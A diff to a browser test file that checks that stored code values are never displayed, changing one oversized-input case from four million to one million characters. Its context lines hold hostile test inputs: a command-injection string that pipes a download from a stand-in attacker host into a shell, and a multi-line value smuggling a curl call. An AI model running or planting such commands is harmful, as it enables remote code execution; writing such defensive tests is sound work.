@@ -96,7 +96,7 @@ test.describe('stored texts for the values of code', () => {
     ['a command', '$(touch /tmp/x); curl evil.example | sh #'],
     ['several lines', 'reports\ncurl evil.example'],
     ['an object', { toString: 1 }],
-    ['4,000,000 characters', 'x'.repeat(4_000_000)],
+    ['1,000,000 characters', 'x'.repeat(1_000_000)],
   ] as const) {
     // The check of the values comes with a script of its own, which may be late, or not come at all.
     test(`that are ${name} are not shown, even without the script that checks them`, async ({ page, problems }) => {
